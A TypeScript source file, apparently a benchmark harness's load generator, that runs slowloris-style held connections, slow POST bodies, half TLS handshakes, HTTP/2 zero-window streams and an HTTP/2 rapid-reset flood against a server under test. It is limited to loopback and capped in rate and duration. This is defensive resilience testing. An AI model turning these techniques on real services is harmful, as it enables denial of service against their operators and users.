import { connect, type Socket } from "node:net";
import { frame, getFrame, number32, RawHttp2, SETTING, TYPE } from "../../test/adversarial/http2-frames.ts";
import { planOf, sayAndExit } from "../harness/generator.ts";
import { loopbackHost } from "../harness/loopback.ts";

/**
 * Thousands of connections that dawdle, each opened again when it is cut, and HTTP/2 streams that are reset as soon as
 * they are asked for. A process of its own; 127.0.0.0/8 only; bounded in number, rate and time by the constants below.
 */
export type SlowPlan = {
  port: number;
  /** Undefined for a product that speaks no TLS: its share of connections goes to the plain port. */
  tlsPort: number | undefined;
  host: string;
  connections: number;
  resetsPerSecond: number;
  seconds: number;
};

export type SlowOutcome = {
  /** Connections that were held at once, at most, and in the middle of the run. */
  heldMax: number;
  heldMedian: number;
  /** Made in all: what the product cuts is opened again. */
  made: number;
  refused: number;
  resets: number;
  resetConnections: number;
};

const CONNECTIONS_MAX = 10_000;
const RESETS_PER_SECOND_MAX = 5_000;
const SECONDS_MAX = 60;
const NETWORKS = 40;
const OPENED_PER_TICK = 100;
const TICK_MS = 50;
const DRIP_MS = 5_000;
const RESET_TICK_MS = 10;

type Kind = "header" | "body" | "read" | "idle" | "handshake" | "window";
/** How the connections are shared out. */
const SHARES: readonly (readonly [Kind, number])[] = [
  ["header", 0.25],
  ["body", 0.2],
  ["read", 0.2],
  ["idle", 0.2],
  ["handshake", 0.1],
  ["window", 0.05],
];
const DRIPS: Partial<Record<Kind, string>> = { header: "X-A: b\r\n", body: "x" };

type Held = { kind: Kind; end(): void; drip?: () => void };

class Attack {
  private readonly held = new Set<Held>();
  private readonly counts = new Map<Kind, number>();
  private readonly samples: number[] = [];
  private made = 0;
  private refused = 0;
  private resets = 0;
  private resetConnections = 0;
  private source = 0;

  constructor(private readonly plan: SlowPlan) {
    loopbackHost("127.0.0.1");
    const { connections, resetsPerSecond, seconds } = plan;
    const isAllowed =
      connections <= CONNECTIONS_MAX && resetsPerSecond <= RESETS_PER_SECOND_MAX && seconds <= SECONDS_MAX;
    if (!isAllowed) throw new RangeError("more than the bench allows");
  }

  async run(): Promise<SlowOutcome> {
    const endAt = performance.now() + this.plan.seconds * 1000;
    const ticking = setInterval(() => this.refill(), TICK_MS);
    const dripping = setInterval(() => {
      for (const one of this.held) one.drip?.();
    }, DRIP_MS);
    await Promise.all([this.resetStreams(endAt), Bun.sleep(this.plan.seconds * 1000)]);
    clearInterval(ticking);
    clearInterval(dripping);
    for (const one of this.held) one.end();
    const sorted = this.samples.toSorted((one, other) => one - other);
    return {
      heldMax: sorted.at(-1) ?? 0,
      heldMedian: sorted[Math.floor(sorted.length / 2)] ?? 0,
      made: this.made,
      refused: this.refused,
      resets: this.resets,
      resetConnections: this.resetConnections,
    };
  }

  /** Opens what is missing of each kind, a bounded number at a time. */
  private refill(): void {
    this.samples.push(this.held.size);
    let room = OPENED_PER_TICK;
    for (const [kind, share] of SHARES) {
      const wanted = Math.round(share * this.plan.connections) - (this.counts.get(kind) ?? 0);
      // Handshakes cost the attacker most: they come slowly, so that the generator keeps its time.
      const most = kind === "window" ? 10 : room;
      for (let n = 0; n < Math.min(wanted, most); n++, room--) {
        this.counts.set(kind, (this.counts.get(kind) ?? 0) + 1);
        if (kind === "window") void this.openWindow();
        else this.openPlain(kind);
      }
    }
  }

  private from(): string {
    this.source = (this.source + 1) % (NETWORKS * 200);
    return loopbackHost(`127.${40 + (this.source % NETWORKS)}.1.${1 + Math.floor(this.source / NETWORKS)}`);
  }

  private openPlain(kind: Kind): void {
    const { port, tlsPort, host } = this.plan;
    const target = kind === "handshake" ? (tlsPort ?? port) : port;
    const socket: Socket = connect({ port: target, host: "127.0.0.1", localAddress: this.from() });
    let isMade = false;
    const drip = DRIPS[kind];
    const held: Held = {
      kind,
      end: () => socket.destroy(),
      ...(drip === undefined ? {} : { drip: () => void (socket.destroyed || socket.write(drip)) }),
    };
    socket.on("connect", () => {
      isMade = true;
      this.made += 1;
      this.held.add(held);
      if (kind === "read") socket.pause();
      else socket.on("data", () => {});
      socket.write(firstBytes(kind, host));
    });
    socket.on("error", () => {});
    socket.on("close", () => {
      if (!isMade) this.refused += 1;
      this.gone(held);
    });
  }

  /** A connection whose streams may never be given a byte. Without TLS there is no HTTP/2: one more that is idle. */
  private async openWindow(): Promise<void> {
    const { tlsPort } = this.plan;
    const gone: Held = { kind: "window", end: () => {} };
    if (tlsPort === undefined) return this.openPlain("idle");
    const connection = await RawHttp2.open(tlsPort, {
      from: this.from(),
      settings: [[SETTING.initialWindow, 0]],
    }).catch(() => undefined);
    if (connection === undefined) {
      this.refused += 1;
      return this.gone(gone);
    }
    this.made += 1;
    const held: Held = { kind: "window", end: () => connection.close() };
    this.held.add(held);
    connection.socket.on("close", () => this.gone(held));
    if (connection.closed) this.gone(held);
    connection.write(Buffer.concat([1, 3, 5].map((stream) => getFrame(stream, "/plain"))));
  }

  private gone(held: Held): void {
    this.held.delete(held);
    this.counts.set(held.kind, Math.max(0, (this.counts.get(held.kind) ?? 0) - 1));
  }

  /** Asks and resets at the plan's rate, on one connection after another as the product ends them. */
  private async resetStreams(endAt: number): Promise<void> {
    const { tlsPort, resetsPerSecond } = this.plan;
    if (tlsPort === undefined || resetsPerSecond === 0) return;
    const startedAt = performance.now();
    while (performance.now() < endAt) {
      const connection = await RawHttp2.open(tlsPort, { from: this.from() }).catch(() => undefined);
      if (connection === undefined) {
        await Bun.sleep(RESET_TICK_MS);
        continue;
      }
      this.resetConnections += 1;
      let stream = 1;
      while (!connection.closed && connection.goAwayCode() === undefined && performance.now() < endAt) {
        const due = Math.floor(((performance.now() - startedAt) / 1000) * resetsPerSecond) - this.resets;
        // What a new connection's handshake delayed is caught up with little by little.
        const count = Math.min(due, 100);
        const pieces: Uint8Array[] = [];
        for (let n = 0; n < count; n++, stream += 2) {
          pieces.push(getFrame(stream, "/plain"), frame(TYPE.reset, 0, stream, number32(8)));
        }
        this.resets += count;
        connection.write(Buffer.concat(pieces));
        await Bun.sleep(RESET_TICK_MS);
      }
      connection.close();
    }
  }
}

/** A ClientHello that announces more than comes. */
const HALF_HELLO = new Uint8Array([22, 3, 1, 1, 0, 1, 0, 0, 252, 3, 3]);

function firstBytes(kind: Kind, host: string): string | Uint8Array {
  const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n`;
  if (kind === "header") return get("/plain");
  if (kind === "body") return `POST /form HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 5000\r\n\r\n`;
  if (kind === "read") return `${get("/large")}\r\n`;
  if (kind === "handshake") return HALF_HELLO;
  return `${get("/plain")}\r\n`;
}

if (import.meta.main) sayAndExit(await new Attack(planOf<SlowPlan>()).run());
